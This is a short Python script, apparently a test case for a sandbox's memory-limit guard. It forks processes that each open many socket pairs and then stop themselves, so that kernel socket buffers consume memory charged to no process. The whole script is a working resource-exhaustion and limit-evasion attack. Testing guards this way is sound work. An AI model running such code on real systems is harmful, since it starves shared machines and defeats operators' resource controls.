# cases: 25, 29
# guard: limits
# fact: took more memory
"""Takes too much of the kernel's memory, which no process has: in the buffers of sockets that nobody reads."""
import os
import socket
import time


def attack(bait):
    told, tell = os.pipe()
    processes = 1 + bait["megabytes"] * 1_000_000 // 425_984 // 240
    for _ in range(processes):
        if os.fork() == 0:
            pairs = [socket.socketpair() for _ in range(120)]
            os.write(tell, b"x" * (len(pairs) == 120))
            while True:
                os.kill(os.getpid(), 19)
    os.close(tell)
    held = b""
    while len(held) < processes and (data := os.read(told, 100)):
        held += data
    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
    return f"{len(held) * 240} sockets" if len(held) == processes else None
